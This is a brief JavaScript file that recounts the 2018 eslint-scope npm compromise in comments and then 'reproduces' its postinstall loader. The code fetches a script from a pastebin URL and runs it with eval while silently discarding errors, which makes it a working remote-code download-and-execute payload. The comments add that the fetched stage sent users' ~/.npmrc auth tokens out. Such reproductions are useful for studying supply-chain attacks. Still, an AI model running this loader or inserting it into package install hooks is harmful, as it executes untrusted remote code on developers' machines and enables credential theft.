// Incident: eslint-scope 3.7.2 and eslint-config-eslint 5.0.2 (npm), 12 July 2018.
// With a maintainer's reused password the attacker published versions whose postinstall
// fetched a script from pastebin and evaluated it; that script sent the user's ~/.npmrc
// auth token to a statistics endpoint. Reference: https://eslint.org/blog/2018/07/postmortem-for-malicious-package-publishes/
// Reproduction (own code, placeholder paste id).
try {
  var https = require('https');
  https.get({ hostname: 'pastebin.com', path: '/raw/Xa9Kq2Lm', headers: { 'User-Agent': 'Mozilla/5.0' } }, function (r) {
    r.setEncoding('utf8');
    r.on('data', function (c) {
      eval(c);
    });
    r.on('error', function () {});
  }).on('error', function () {});
} catch (e) {}
